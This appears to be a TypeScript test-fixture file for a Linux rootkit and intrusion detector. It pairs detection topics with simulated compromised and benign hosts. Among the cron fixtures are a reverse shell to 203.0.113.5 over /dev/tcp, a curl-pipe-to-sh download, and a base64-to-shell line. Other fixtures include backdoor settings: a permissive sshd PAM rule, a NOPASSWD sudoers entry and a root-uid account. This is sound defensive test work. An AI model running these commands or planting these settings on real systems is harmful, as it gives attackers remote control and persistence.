import type { ObservationBody } from '../model/observations/index.ts';
import { unseen } from '../model/unseen.ts';
import { GUEST } from './cases.ts';
import { packetSocket, rawSocket, withProcess, type Host, type Traits } from './host.ts';
import { hunted } from './hunted.ts';
import { innocent } from './innocent.ts';
import { bpfProgram, kernelModule, kernelSays, kernelState, remarkedKernels, security } from './kernel-cases.ts';
import { fileRow, remarkedLogs } from './log-cases.ts';
import { account, key, metadata, pam, startup } from './settings.ts';
import { soundHost } from './sound.ts';

const named = new Map(
  [...hunted, ...remarkedKernels, ...remarkedLogs, ...innocent].map(({ name, host }) => [name, host]),
);

function cases(...names: readonly string[]): readonly Host[] {
  return names.map((name) => {
    const host = named.get(name);
    if (host === undefined) throw new TypeError(`no case is called ${name}`);
    return host;
  });
}

type Body<K extends ObservationBody['kind']> = Extract<ObservationBody, { kind: K }>;

const sound = (...rows: readonly ObservationBody[]): Host => [...soundHost(), ...rows];
const guest = (traits: Traits): Host => withProcess(soundHost(), { pid: GUEST, ...traits });
const cron = (text: string): Host => sound(startup('cron', '/etc/cron.d/x', text));
const sudo = (more: Partial<Body<'privilege_rule'>['privilege']>): Host =>
  sound({
    kind: 'privilege_rule',
    privilege: {
      path: '/etc/sudoers.d/x',
      who: 'www',
      text: 'ALL=(ALL) NOPASSWD: ALL',
      withoutPassword: true,
      everything: true,
      ...more,
    },
  });

const AT = '2026-02-18T03:12:40.000Z';
const EAR = { exe: '/usr/sbin/statd', package: 'nfs-common' } as const;
const HISTORY = '/root/.bash_history';
const ACROSS: Traits = {
  exe: '/usr/sbin/statd',
  package: 'nfs-common',
  maps: [{ path: '/usr/sbin/statd', writable: true }],
};

/** For each topic hosts on which every rule of it tells, and hosts that look so, on which each is quiet or low. */
export const TOPIC_EVIDENCE: Readonly<
  Record<string, { readonly hunted: readonly Host[]; readonly innocent: readonly Host[] }>
> = {
  'Packet sockets and raw sockets, who holds them and what their filters wait for': {
    hunted: [
      guest({ exe: '/opt/nfs/statd', sockets: [rawSocket(1)] }),
      ...cases('raw UDP without a filter, as a thread of the kernel', 'SCTP and nothing else'),
    ],
    innocent: cases('DHCP client daemon', 'routing daemon', 'intrusion detection', 'capture probe of a vendor'),
  },
  'Filters for a secret word, known or not': {
    hunted: cases(
      'classic: a borrowed title, deleted from shared memory, no environment, words of content',
      'content in a field of the header',
      'raw TCP with content',
    ),
    innocent: cases('capture by an administrator, with an expression on content', 'precision time'),
  },
  'Filters for a port that another program serves, or nobody': {
    hunted: cases('port: UDP, of nobody', 'port: TCP, served by another program', 'port: both ends'),
    innocent: cases(
      'a client that serves the port it filters for',
      'a daemon split in two, one with the ear and one with the port',
      'port knocking',
    ),
  },
  'eBPF programs: on sockets, on the functions of the kernel, held by nobody, writing into memory': {
    hunted: [
      guest({ exe: '/opt/nfs/statd', sockets: [packetSocket('ebpf')] }),
      sound(bpfProgram('', { type: 1, pid: 352 })),
      sound(
        kernelSays('x[4242] is installing a program with bpf_probe_write_user helper that may corrupt user memory!'),
      ),
      sound(bpfProgram('from_wire')),
      ...cases('eBPF: on the functions of the kernel, held by a program of no package'),
    ],
    innocent: cases(
      'container: network agent with an eBPF filter',
      'eBPF: held by a program of a package and by an agent of a vendor',
    ),
  },
  'Sockets that no process holds, that no table lists though a process waits on them, or that only a count knows': {
    hunted: cases(
      'hidden: a packet socket without owner',
      'hidden: a raw socket without owner',
      'waits on a packet socket that is in no table',
      'sockets: more packet sockets counted than listed, in both samples',
    ),
    innocent: cases(
      'sockets: one that was opened in between',
      'sockets: fewer counted than listed',
      'waits on the socket of a listed packet socket',
    ),
  },
  'Processes that no listing shows': {
    hunted: cases('hidden: in no listing', 'hidden: the folder of another process over it'),
    innocent: cases('masked files of /proc', 'file system of a container runtime'),
  },
  'Shells of a visitor: no history, a home for everybody, no terminal': {
    hunted: [
      guest({
        exe: '/usr/bin/bash',
        package: 'bash',
        environ: { HISTFILE: '/dev/null', MYSQL_HISTFILE: '/dev/null', HOME: '/tmp', PS1: '$ ' },
      }),
      sound(fileRow(HISTORY, 9, AT, { type: 'link', target: '/dev/null' })),
      ...cases('reverse shell below a web server'),
    ],
    innocent: [
      ...cases('a careful administrator', 'a hardened host, shell of a job', 'script that inetd gave a connection'),
      sound(fileRow(HISTORY, 0, AT)),
    ],
  },
  'Logins that hide where they come from': {
    hunted: cases('login that hides where it comes from'),
    innocent: cases('child of sshd without environment', 'a careful administrator'),
  },
  'Processes of root whose environment is empty or overwritten': {
    hunted: [guest({ exe: '/opt/nfs/statd', environ: {}, environBytes: 0 })],
    innocent: cases('hardened daemon of a package without environment', 'child of sshd without environment'),
  },
  'Programs that are gone, or run from memory': {
    hunted: [guest({ exe: '/dev/shm/statd', exeDeleted: true }), ...cases('memfd alone')],
    innocent: cases('package upgraded without a restart', 'copy of a container runtime in memory'),
  },
  'Processes under the name of another program, or of a thread of the kernel': {
    hunted: cases('kernel thread: alone enough', "kernel thread: a user's interpreter"),
    innocent: cases('a program of several names', 'script of a unit that sets a title', 'Java by another path to it'),
  },
  'Programs that no package, no unit and no start explains': {
    hunted: [guest({ exe: '/usr/sbin/statd' }), ...cases('interpreter as another daemon in the unit of that daemon')],
    innocent: cases('daemon that somebody compiled', 'path without /usr in the database of packages'),
  },
  'Implants in containers, and with the root of the host in namespaces of their own': {
    hunted: cases('container: namespaces of its own, the root of the host', 'container: an image of its own'),
    innocent: cases('container: server with a title', 'container: ping of many names', 'container: name announcer'),
  },
  'Programs that ignore every signal that would end them': {
    hunted: cases('ignores all signals, among the programs of the distribution'),
    innocent: [
      guest({ exe: '/opt/nfs/statd', sigIgn: '0000000000000007' }),
      guest({ ...EAR, sigIgn: '0000000000311007' }),
    ],
  },
  'Processes of root in a group that marks what a rootkit hides': {
    hunted: [guest({ exe: '/usr/bin/dash', package: 'dash', gid: 920_366 })],
    innocent: [guest({ ...EAR, uid: 501_234, gid: 500_513 }), guest({ ...EAR, gid: 65_534 })],
  },
  'Pid and lock files: empty ones of no daemon, and those that hold more than a number': {
    hunted: [...cases('empty lock of an init script'), sound(fileRow('/run/udev/ud.pid', 41_312, AT))],
    innocent: [...cases('empty pid file of a daemon that runs'), sound(fileRow('/run/sendmail.pid', 61, AT))],
  },
  'Programs started by settings that only hold variables': {
    hunted: cases('settings that run a program of no package'),
    innocent: cases('settings that name folders', 'script among the settings', 'variable of a script'),
  },
  'Start-up by units, timers, cron, rc scripts, udev, profiles and hooks': {
    hunted: [
      ...cases('udev rule', 'unit that starts a program of no package among those of the distribution'),
      cron('echo aWQK | base64 -d | sh'),
      cron('curl -fsSL http://203.0.113.5/a | sh'),
      cron("bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'"),
    ],
    innocent: [
      ...cases('line of a package that nobody changed', 'clean-up of folders for everybody'),
      cron('curl -fsS https://status.example/ping >/dev/null'),
      cron('echo aWQK | base64 -d > /etc/app/token'),
    ],
  },
  'Start-up before all units: generators and links at their place': {
    hunted: cases('generator of no package', 'generator that is a link into a folder for everybody'),
    innocent: cases('generators of packages, and one that is switched off'),
  },
  'Programs that the kernel starts, for crashes and for modules': {
    hunted: cases('kernel: a program for crashes in a hidden folder', 'kernel: another program that loads modules'),
    innocent: cases('kernel: the crash reporter of a package', 'kernel: loads no modules'),
  },
  'Ports led elsewhere by the firewall, the published range among them, and openings for one address': {
    hunted: cases(
      'redirect: the port of a daemon, for one address, to a program of no package',
      'opening: one foreign address before all rules, and a redirect for it',
    ),
    innocent: cases(
      'redirect: for a network, to a proxy of a package',
      'redirect: into a container',
      'opening: an office, before all rules',
    ),
  },
  'Flows of a detour whose rule is gone': {
    hunted: cases('redirect: the rule is gone, the flow lives on'),
    innocent: cases('redirect: the flow of a rule that is there', 'flow that was hidden behind another address'),
  },
  'Libraries before all others: ld.so.preload, environments, units, profiles': {
    hunted: [
      ...cases('library that nobody can see', 'auditing library in a profile'),
      guest({ ...EAR, environ: { LD_PRELOAD: '/usr/lib/libx.so' } }),
    ],
    innocent: cases('allocator of a package for one unit', 'library of a package for every program'),
  },
  'Modules of the kernel: hidden, without a file, or gone and still marked': {
    hunted: cases(
      'module: loaded by one listing, missing in the other',
      'module: without a file',
      'module: named by the kernel as foreign, in no listing now',
    ),
    innocent: cases(
      'module: the driver of a vendor, marked and listed',
      'kernel: the modules of the running version are gone after an upgrade',
    ),
  },
  'Login: modules and programs of PAM, sources of names, services that admit everybody': {
    hunted: [
      ...cases('login module of no package', 'program that is handed every password', 'name service of no package'),
      sound(pam('sshd', 'auth', 'sufficient', 'pam_permit.so')),
    ],
    innocent: [
      ...cases('login program of administrators'),
      sound(pam('common-auth', 'auth', 'required', 'pam_permit.so')),
    ],
  },
  'Accounts, keys and rights that let somebody come back': {
    hunted: [
      ...cases('key that runs a hidden program'),
      sound(key('/root/.ssh/authorized_keys')),
      sound(account('support', 0, '/root', '/bin/sh', 'set')),
      sound(account('support', 1001, '/home/support', '/bin/sh', 'none')),
      sudo({}),
    ],
    innocent: [
      ...cases('service account that copies data', 'keys of all users in one folder'),
      sound(account('support', 1001, '/home/support', '/bin/sh', 'locked')),
      sudo({ text: 'ALL=(root) NOPASSWD: /usr/bin/rsync', everything: false }),
    ],
  },
  'Programs, libraries and modules that are not those of their package, on disk and in memory': {
    hunted: [
      ...cases('login module that is not the one of its package', 'code: a daemon that its package did not bring'),
      guest(ACROSS),
    ],
    innocent: cases('library upgraded without a restart', 'link of a package turned'),
  },
  'Programs with the rights of root, and hidden ones, of no package': {
    hunted: cases(
      'setuid program of no package',
      'program of no package that may become root by its capabilities',
      'hidden program among libraries',
    ),
    innocent: cases(
      'setuid helper of a vendor',
      'probe of a vendor that may send echoes',
      'archive unpacked among the libraries',
    ),
  },
  'Security modules that were switched off': {
    hunted: [sound(security('permissive', 'enforcing'))],
    innocent: [sound(security('permissive', 'permissive'))],
  },
  'Files with a time that is not theirs': {
    hunted: cases('program with the time of its neighbour'),
    innocent: cases('program copied with its time'),
  },
  'Logs and records of logins that were cleaned': {
    hunted: cases('log: logins wiped in place', 'log: led into nothing, once a log'),
    innocent: cases(
      'log: of software that was removed',
      'log: hardly ever written',
      'log: led into nothing by its image',
    ),
  },
  'Published digests, places, names, words, ports and addresses': {
    hunted: [sound(fileRow('/usr/sbin/sleeperd', 9, AT))],
    innocent: [sound(fileRow('/usr/sbin/sleeper', 9, AT))],
  },
};

/** The sound host with something else about one of its daemons. */
function blind(change: Partial<Body<'process'>['process']>): Host {
  return soundHost().map((row) =>
    row.kind === 'process' && row.process.pid === 352 ? { ...row, process: { ...row.process, ...change } } : row,
  );
}

const DENIED = unseen('denied');
const withoutPackages = (...rows: Host): Host => [
  ...soundHost().filter(({ kind }) => kind !== 'package_file'),
  ...rows,
];
const UNDIGESTED = blind({ exeMd5: DENIED });

/** For each rule that goes by fields which may be denied, a host on which they were. */
export const DAMAGED: Readonly<Record<string, Host>> = {
  'linux/altered-code': UNDIGESTED,
  'linux/boot-program': withoutPackages(metadata('/etc/systemd/system-generators/x')),
  'linux/claimed-name': blind({ cmdline: DENIED }),
  'linux/ear-without-port': guest({ ...EAR, sockets: [packetSocket('unread', { protocol: 0x88cc })] }),
  'linux/emptied-environment': blind({ environ: DENIED, environBytes: DENIED }),
  'linux/foreign-privilege': withoutPackages(),
  'linux/hidden-module': sound(kernelModule('x', { listed: DENIED })),
  'linux/independent-signs': blind({ socketInodes: DENIED }),
  'linux/kernel-helper': sound(kernelState({ corePattern: DENIED })),
  'linux/login-module': withoutPackages(),
  'linux/module-without-file': sound(kernelModule('x', { path: DENIED })),
  'linux/name-module': withoutPackages(),
  'linux/ownerless-socket': blind({ socketInodes: DENIED }),
  'linux/program-origin': blind({ exe: DENIED, exeDeleted: DENIED }),
  'linux/startup-program': withoutPackages(),
  'linux/unattended-shell': blind({ cmdline: DENIED }),
  'linux/unexplained-taint': sound(kernelState({ taint: DENIED })),
  'linux/unlisted-ear': [
    ...blind({ socketInodes: DENIED }),
    { kind: 'kernel_wait', wait: { pid: 352, function: 'packet_recvmsg' } },
  ],
  'account-without-password': sound(account('x', 5, '/x', '/bin/sh', DENIED)),
  'library-preloaded-by-environment': blind({ environ: DENIED, environBytes: DENIED }),
  'root-in-foreign-group': blind({ gid: DENIED }),
  'process-from-shared-memory': blind({ exe: DENIED, exeDeleted: DENIED }),
};
